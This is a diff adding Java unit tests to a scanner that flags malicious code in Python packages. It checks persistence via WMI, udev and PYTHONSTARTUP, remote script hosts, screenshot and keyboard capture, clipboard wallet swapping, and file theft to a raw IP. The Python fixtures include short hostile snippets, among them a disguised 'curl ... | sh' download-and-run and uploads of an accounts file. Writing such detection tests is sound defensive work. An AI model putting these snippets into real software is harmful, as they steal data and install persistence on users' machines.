@@ -463,6 +463,144 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/schedule.py", listed))).isEmpty();
   }
 
+  @Test
+  void aWmiEventSubscriptionOrAUdevRuleRunsACommandOnAnEvent() {
+    String wmi =
+        "import wmi\nns = wmi.WMI(namespace=r'root\\subscription')\n"
+            + "c = ns.CommandLineEventConsumer.new()\nc.CommandLineTemplate = CMD\nc.Put_()\n";
+    String udev =
+        "with open('/etc/udev/rules.d/75-sync.rules', 'w') as out:\n"
+            + "    out.write(f'ACTION==\"add\", RUN+=\"{EXE} -m pkg.sync\"\\n')\n";
+    String query = "import subprocess\nsubprocess.run(['udevadm', 'info', '--query=all', DEV])\n";
+
+    assertThat(levelIn(wmi, "wmi-event-subscription")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(udev, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    // asking udev about a device changes nothing
+    assertThat(check(wheelWith("pkg/dev.py", query))).isEmpty();
+  }
+
+  @Test
+  void aStartUpVariableSetForEveryLaterSessionIsPersistence() {
+    String registry =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Environment', 0,"
+            + " winreg.KEY_SET_VALUE) as k:\n"
+            + "    winreg.SetValueEx(k, 'PYTHONSTARTUP', 0, winreg.REG_SZ, HOOK)\n";
+    String setx = "import subprocess\nsubprocess.run(['setx', 'PYTHONSTARTUP', HOOK])\n";
+    String read = "import os\nstartup = os.environ.get('PYTHONSTARTUP')\nrun(startup)\n";
+
+    assertThat(levelIn(registry, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(setx, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
+    // a REPL reading the variable, as Python itself does, is what it is for
+    assertThat(check(wheelWith("pkg/repl.py", read))).isEmpty();
+  }
+
+  @Test
+  void aWindowsScriptHostRunningAnAddressIsADownloadAndRun() {
+    String mshta =
+        "import subprocess\nsubprocess.Popen(['mshta.exe', 'https://a.example/s.hta'])\n";
+    String regsvr =
+        "import os\nos.system('regsvr32 /s /n /u /i:https://a.example/s.sct scrobj.dll')\n";
+    String local = "import subprocess\nsubprocess.Popen(['mshta.exe', HELP_FILE])\n";
+
+    assertThat(levelIn(mshta, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(regsvr, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/help.py", local))).isEmpty();
+  }
+
+  @Test
+  void identityLoggedToAnotherHostIsIdentitySent() {
+    String syslog =
+        "import logging.handlers, platform\nlog = logging.getLogger('d')\n"
+            + "log.addHandler(logging.handlers.SysLogHandler(address=(HOST, 514)))\n"
+            + "log.warning('host=%s', platform.node())\n";
+    String local =
+        "import logging.handlers, socket\n"
+            + "h = logging.handlers.SysLogHandler(address='/dev/log')\n"
+            + "h.setFormatter(logging.Formatter(socket.gethostname() + ' %(message)s'))\n";
+    // urllib's HTTPHandler opens URLs; it is not a logging handler
+    String opener =
+        "import socket, urllib.request\nh = urllib.request.HTTPHandler()\n"
+            + "me = socket.gethostname()\n";
+
+    assertThat(levelIn(syslog, "identity-logged-remotely")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/log.py", local))).isEmpty();
+    assertThat(check(wheelWith("pkg/net.py", opener))).isEmpty();
+  }
+
+  @Test
+  void homeFilesAndAHardCodedPublicAddressAreATheftInTwoHalves() {
+    String stream =
+        "import asyncio, json, os\n"
+            + "path = os.path.join(os.environ.get('APPDATA', ''), '.minecraft', 'accounts.json')\n"
+            + "async def ship():\n"
+            + "    reader, writer = await asyncio.open_connection('100.64.0.144', 8443)\n"
+            + "    writer.write(open(path, 'rb').read())\n";
+    String lan =
+        "import asyncio, os\npath = os.path.expanduser('~/.config/tool/state.json')\n"
+            + "async def sync():\n"
+            + "    reader, writer = await asyncio.open_connection('192.168.1.20', 8443)\n";
+
+    assertThat(levelIn(stream, "home-data-to-raw-ip")).isEqualTo(RiskLevel.HIGH);
+    // an address on the local network is a device or a service of the user's own
+    assertThat(check(wheelWith("pkg/sync.py", lan)))
+        .noneMatch(f -> f.evidence().values().get("pattern").equals("home-data-to-raw-ip"));
+  }
+
+  @Test
+  void theScreenCopiedOutOfItsDeviceContextIsAScreenshot() {
+    String wx =
+        "import wx, requests\nscreen = wx.ScreenDC()\nw, h = screen.GetSize()\n"
+            + "bmp = wx.Bitmap(w, h)\nmem = wx.MemoryDC(bmp)\n"
+            + "mem.Blit(0, 0, w, h, screen, 0, 0)\nrequests.post(URL, data=png(bmp))\n";
+    String gdi =
+        "import ctypes\nuser32 = ctypes.windll.user32\ngdi32 = ctypes.windll.gdi32\n"
+            + "src = user32.GetDC(0)\ndst = gdi32.CreateCompatibleDC(src)\n"
+            + "gdi32.BitBlt(dst, 0, 0, W, H, src, 0, 0, 0x00CC0020)\n";
+    String measure = "import wx\nwidth, height = wx.ScreenDC().GetTextExtent(label)\n";
+
+    assertThat(levelIn(wx, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(gdi, "screenshot")).isEqualTo(RiskLevel.MEDIUM);
+    // measuring text on the screen's context copies nothing
+    assertThat(check(wheelWith("pkg/ui.py", measure))).isEmpty();
+  }
+
+  @Test
+  void theWholeKeyboardsStatePolledAndSentIsAKeylogger() {
+    String poll =
+        "import ctypes, urllib.request\nstate = (ctypes.c_ubyte * 256)()\n"
+            + "ctypes.windll.user32.GetKeyboardState(ctypes.byref(state))\n"
+            + "urllib.request.urlopen(URL, data=bytes(state))\n";
+
+    assertThat(levelIn(poll, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+  }
+
+  @Test
+  void aClipboardModulesTextFunctionsAreTheClipboard() {
+    String swap =
+        "import re\nimport jaraco.clipboard as jc\n"
+            + "LTC = re.compile(r'^(ltc1|[LM3])[a-zA-HJ-NP-Z0-9]{26,40}$')\n"
+            + "if LTC.match(jc.paste_text()):\n    jc.copy_text(OURS)\n";
+
+    assertThat(levelIn(swap, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
+  }
+
+  @Test
+  void aModuleAndFunctionLookedUpByHandedNamesHideWhatIsRun() {
+    String lambdas =
+        "import sys\n"
+            + "pick = lambda m, a: getattr(sys.modules.get(m) or __import__(m), a)\n"
+            + "pick('o' + 's', 'sys' + 'tem')('curl -s https://x.example/k | sh')\n";
+    String importString =
+        "from importlib import import_module\n"
+            + "def import_string(path):\n"
+            + "    module, name = path.rsplit('.', 1)\n"
+            + "    return getattr(import_module(module), name)\n";
+
+    assertThat(levelIn(lambdas, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    // the helper every framework has, with no command in the file, is not a finding
+    assertThat(check(wheelWith("pkg/utils.py", importString))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
